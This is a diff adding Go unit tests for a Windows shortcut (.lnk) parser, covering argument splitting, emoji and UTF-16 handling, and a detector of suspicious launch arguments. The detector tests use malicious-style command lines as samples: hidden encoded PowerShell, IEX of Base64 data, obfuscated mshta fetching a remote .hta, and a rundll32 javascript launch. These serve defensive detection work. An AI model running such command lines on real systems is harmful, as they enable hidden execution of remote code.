@@ -0,0 +1,84 @@
+package lnk
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestArgumentList(t *testing.T) {
+	tests := []struct {
+		arguments string
+		want      []string
+	}{
+		{``, nil},
+		{`-x "y z"`, []string{"-x", "y z"}},
+		{`-x "C:\Program Files\a b" y`, []string{"-x", `C:\Program Files\a b`, "y"}},
+		{`"C:\Program Files\App\"`, []string{`C:\Program Files\App"`}},
+		{`"C:\Program Files\App\\"`, []string{`C:\Program Files\App\`}},
+		{`a\"b "c\\" d\\e`, []string{`a"b`, `c\`, `d\\e`}},
+		{`"say ""hi""" ""`, []string{`say "hi"`, ""}},
+		{`-c "Write-Host \"x y\""`, []string{"-c", `Write-Host "x y"`}},
+		{"\t a  b \t", []string{"a", "b"}},
+	}
+	for _, test := range tests {
+		got := (&LNK{Arguments: test.arguments}).ArgumentList()
+		if !reflect.DeepEqual(got, test.want) {
+			t.Errorf("ArgumentList() of %q = %q, want %q", test.arguments, got, test.want)
+		}
+	}
+}
+
+func TestSuspiciousArguments(t *testing.T) {
+	tests := []struct {
+		arguments string
+		want      []string
+	}{
+		// an encoded PowerShell command
+		{`-NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, []string{"-enc", "-nop", "-w hidden"}},
+		{`-c "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aQBlAHgA')))"`, []string{"FromBase64String", "iex("}},
+		{`/c m^sh^ta http://example.com/a.hta`, []string{"mshta"}},
+		{`/c start rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`, []string{"rundll32"}},
+		{`-x "y z"`, nil},
+	}
+	for _, test := range tests {
+		got := (&LNK{Arguments: test.arguments}).SuspiciousArguments()
+		if !reflect.DeepEqual(got, test.want) {
+			t.Errorf("SuspiciousArguments() of %q = %q, want %q", test.arguments, got, test.want)
+		}
+	}
+}
+
+func TestSurrogatePairs(t *testing.T) {
+	const emoji = "\U0001F600"
+	b := NewBuilder()
+	if err := b.SetTargetPath(`C:\x.exe`); err != nil {
+		t.Fatal(err)
+	}
+	b.SetName("smile " + emoji)
+	b.SetWorkingDir(`C:\` + emoji)
+	b.SetArguments(emoji + ".txt")
+	lnk := roundTrip(t, b)
+	if lnk.Name != "smile "+emoji || lnk.WorkingDir != `C:\`+emoji || lnk.Arguments != emoji+".txt" {
+		t.Errorf("StringData = %q, %q, %q", lnk.Name, lnk.WorkingDir, lnk.Arguments)
+	}
+
+	// the ANSI LocalBasePath holds '?' in place of the emoji
+	lnk = load(t, "emoji_li.lnk")
+	if lnk.VolumeLabelUnicode != "Backup "+emoji || lnk.LocalBasePathUnicode != `C:\`+emoji+".txt" || lnk.LocalBasePathANSI != `C:\?.txt` {
+		t.Errorf("VolumeLabelUnicode = %q, LocalBasePathUnicode = %q, LocalBasePathANSI = %q", lnk.VolumeLabelUnicode, lnk.LocalBasePathUnicode, lnk.LocalBasePathANSI)
+	}
+
+	// U+1F600 is D83D DE00, and a lone surrogate cannot be decoded
+	tests := []struct {
+		data []byte
+		want string
+	}{
+		{[]byte{0x3d, 0xd8, 0x00, 0xde, 0x00, 0x00}, emoji},
+		{[]byte{0x3d, 0xd8, 0x41, 0x00, 0x00, 0x00}, "\uFFFDA"},
+	}
+	for _, test := range tests {
+		if got := decodeUTF16(test.data); got != test.want {
+			t.Errorf("decodeUTF16(% x) = %q, want %q", test.data, got, test.want)
+		}
+	}
+}